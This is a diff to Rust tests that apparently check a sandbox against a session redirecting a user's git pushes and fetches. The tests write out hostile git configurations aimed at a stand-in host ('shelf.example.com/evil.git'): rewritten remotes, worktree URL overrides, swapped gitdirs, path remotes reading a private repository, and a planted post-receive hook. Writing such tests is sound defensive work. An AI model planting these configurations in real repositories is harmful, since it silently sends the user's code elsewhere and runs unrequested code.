@@ -8,9 +8,11 @@ use super::p_git::{ran, session};
 use super::probe::Place;
 use crate::support::standard;
 
-/// A repository whose branch `main` belongs to a remote.
+/// A repository whose branch `main` belongs to a remote. The user's own git takes what is on a server for
+/// what is here, so that a push arrives.
 const TRACKED: &str = "cd; rm -rf project good.git evil.git ran
     git init -q --bare -b main good.git; git init -q --bare -b main evil.git
+    git config --global url./home/dev/.insteadOf https://shelf.example.com/
     mkdir project; cd project; git init -q -b main
     git config user.name a; git config user.email a; git remote add origin ~/good.git
     echo one > file; git add file; git commit -q -m one; git branch bare; git push -q -u origin main 2>&1";
@@ -76,7 +78,7 @@ fn p01_git_outside_does_not_dial_what_a_session_chose() {
 
 #[test]
 fn p01_branches_of_the_users_are_not_pushed_to_remotes_of_a_session() {
-    let remote = "git remote add backup /home/dev/evil.git";
+    let remote = "git remote add backup https://shelf.example.com/evil.git";
     test(&standard(), |world| {
         let laptop = world.laptop();
         let push = "cd ~/project; git commit -q --allow-empty -m two; git push -q
@@ -84,11 +86,19 @@ fn p01_branches_of_the_users_are_not_pushed_to_remotes_of_a_session() {
         for plant in [
             "git config branch.main.remote backup",
             "git config branch.main.pushRemote backup",
-            "git config branch.main.pushRemote /home/dev/evil.git",
+            "git config branch.main.pushRemote https://shelf.example.com/evil.git",
             "git config remote.pushDefault backup",
             // Git pushes to all addresses of a remote, whichever file they are in.
             "git config extensions.worktreeConfig true
-             git config --worktree remote.origin.url /home/dev/evil.git",
+             git config --worktree remote.origin.url https://shelf.example.com/evil.git",
+            "git config extensions.worktreeConfig true; git config branch.main.remote fork
+             git config remote.fork.url ~/good.git
+             git config --worktree remote.fork.url https://shelf.example.com/evil.git",
+            // A remote may have the name of the repository itself.
+            "git config branch.main.remote .
+             git config remote...url https://shelf.example.com/evil.git",
+            // Git takes the only remote.
+            "git remote remove origin; git config push.default current",
         ] {
             let plant = format!("{remote}; {plant}");
             said(laptop, Place::Outside, TRACKED);
@@ -111,6 +121,20 @@ fn p01_branches_of_the_users_are_not_pushed_to_remotes_of_a_session() {
         session(laptop, remote);
         let output = session(laptop, "git config branch.main.pushRemote backup");
         assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
+        said(laptop, Place::Outside, TRACKED);
+        session(
+            laptop,
+            &format!(
+                "{remote}; git remote rename origin mine; git config --unset branch.main.remote"
+            ),
+        );
+        for plant in [
+            "git config branch.main.remote backup",
+            "git remote rename backup origin; git config push.default current",
+        ] {
+            let output = session(laptop, plant);
+            assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
+        }
 
         // A branch that has no remote yet is the user's as well; one that the session made is not.
         said(laptop, Place::Outside, TRACKED);
@@ -123,8 +147,125 @@ fn p01_branches_of_the_users_are_not_pushed_to_remotes_of_a_session() {
         assert_eq!(
             said(laptop, Place::Outside, left),
             "remote.origin.url /home/dev/good.git\nbranch.main.remote origin\n\
-             remote.backup.url /home/dev/evil.git\nbranch.topic.remote backup\n",
+             remote.backup.url https://shelf.example.com/evil.git\nbranch.topic.remote backup\n",
             "{output:?}"
         );
+    });
+}
+
+/// A repository that takes the place of the user's is not new, whatever its directory is called.
+#[test]
+fn p01_no_repository_takes_the_place_of_the_users() {
+    const NESTED: &str = "cd ~/project; git clone -q ~/good.git sub; cd sub
+        git config user.name a; git config user.email a";
+    const SUBMODULE: &str = "cd ~/project
+        git -c protocol.file.allow=always submodule --quiet add ~/good.git sub 2>&1
+        git commit -q -m sub; cd sub; git config user.name a; git config user.email a";
+    const EVIL: &str = "git config remote.backup.url https://shelf.example.com/evil.git
+        git config branch.main.remote backup";
+    let moved = "cd ~/project/sub; mv .git other; echo 'gitdir: other' > .git";
+    let copied = "cd ~/project; cp -r .git/modules/sub .git/modules/other; cd sub
+        echo 'gitdir: ../.git/modules/other' > .git";
+    let push = "cd ~/project/sub; git commit -q --allow-empty -m two; git push -q
+        git -C ~/evil.git log --format=%s main";
+    test(&standard(), |world| {
+        let laptop = world.laptop();
+        for (prepare, plant) in [(NESTED, moved), (SUBMODULE, copied)] {
+            let (prepare, plant) = (format!("{TRACKED}\n{prepare}"), format!("{plant}\n{EVIL}"));
+            said(laptop, Place::Outside, &prepare);
+            said(laptop, Place::Outside, &plant);
+            let pushed = said(laptop, Place::Outside, push);
+            assert_eq!(pushed, "two\none\n", "positive control: {plant}");
+            said(laptop, Place::Outside, &prepare);
+            let output = session(laptop, &plant);
+            assert_eq!(said(laptop, Place::Outside, push), "", "{output:?}");
+            let stderr = output.stderr();
+            assert!(stderr.contains("sub/.git\""), "{stderr}");
+        }
+    });
+}
+
+/// A path may lead to what a session can write, by another name, or to what it was not given.
+#[test]
+fn p01_no_remote_of_a_session_is_a_path() {
+    const PLACE: &str = "cd; rm -rf private; git init -q -b main private; cd private
+        git -c user.name=a -c user.email=a commit -q --allow-empty -m secret";
+    const FETCH: &str = "cd ~/project; git fetch -q --all; git log --format=%s --remotes=backup";
+    // The hook is in the cache that is kept for the workspace.
+    const HOOK: &str = "cd ~/.cache; git init -q --bare fork.git; mkdir -p fork.git/hooks
+        printf '#!/bin/sh\ntouch /home/dev/ran\n' > fork.git/hooks/post-receive
+        chmod +x fork.git/hooks/post-receive";
+    const PUSH: &str = "cd ~/project; git push -q; git switch -q main";
+    test(&standard(), |world| {
+        let laptop = world.laptop();
+        said(laptop, Place::Outside, PLACE);
+        for path in [
+            "/home/dev/private",
+            "file:///home/dev/private",
+            "../private",
+        ] {
+            let plant = format!("cd ~/project; git remote add backup {path}");
+            said(laptop, Place::Outside, TRACKED);
+            said(laptop, Place::Outside, &plant);
+            let fetched = said(laptop, Place::Outside, FETCH);
+            assert_eq!(fetched, "secret\n", "positive control: {path}");
+            said(laptop, Place::Outside, TRACKED);
+            let output = session(laptop, &plant);
+            assert_eq!(said(laptop, Place::Outside, FETCH), "", "{output:?}");
+            // Who wants it has it.
+            let id = output.stderr();
+            let id = id.rsplit_once("accept ").expect("a command").1.trim();
+            let accepted = laptop.stockade(["accept", "--yes", id]).run();
+            accepted.expect("an end").expect_success();
+            assert_eq!(said(laptop, Place::Outside, FETCH), "secret\n", "{path}");
+        }
+
+        said(laptop, Place::Outside, TRACKED);
+        session(laptop, HOOK);
+        let find = "find ~/.local/state/stockade/caches -name fork.git";
+        let path = said(laptop, Place::Outside, find);
+        let path = path.trim();
+        assert!(!path.is_empty(), "the cache is kept");
+        let plant = format!(
+            "cd ~/project; git switch -q -c feature; git remote add fork {path}
+             git config branch.feature.remote fork; git config push.default current"
+        );
+        said(laptop, Place::Outside, &plant);
+        said(laptop, Place::Outside, PUSH);
+        assert!(ran(laptop), "positive control");
+        said(laptop, Place::Outside, TRACKED);
+        let output = session(laptop, &plant);
+        said(laptop, Place::Outside, PUSH);
+        assert!(!ran(laptop), "{output:?}");
+    });
+}
+
+/// With `push.default = upstream`, what a branch follows is where it is pushed to.
+#[test]
+fn p01_branches_of_the_users_are_not_pushed_to_other_branches() {
+    const PUSH: &str = "cd ~/project; git switch -q bare; git commit -q --allow-empty -m two
+        git push -q; git switch -q main; git -C ~/good.git log --format=%s main";
+    const FOLLOW: &str = "cd ~/project; git config branch.bare.remote origin
+        git config branch.bare.merge refs/heads/main";
+    const UPSTREAM: &str = "cd ~/project; git config push.default upstream";
+    test(&standard(), |world| {
+        let laptop = world.laptop();
+        // What the user has set of it, and what a session sets.
+        for (own, plant) in [
+            ("", format!("{FOLLOW}; {UPSTREAM}")),
+            (FOLLOW, UPSTREAM.to_owned()),
+            (UPSTREAM, FOLLOW.to_owned()),
+        ] {
+            said(
+                laptop,
+                Place::Outside,
+                &format!("{TRACKED}\n{own}\n{plant}"),
+            );
+            let pushed = said(laptop, Place::Outside, PUSH);
+            assert_eq!(pushed, "two\none\n", "positive control: {plant}");
+            said(laptop, Place::Outside, &format!("{TRACKED}\n{own}"));
+            let output = session(laptop, &plant);
+            assert_eq!(said(laptop, Place::Outside, PUSH), "one\n", "{output:?}");
+        }
     });
 }
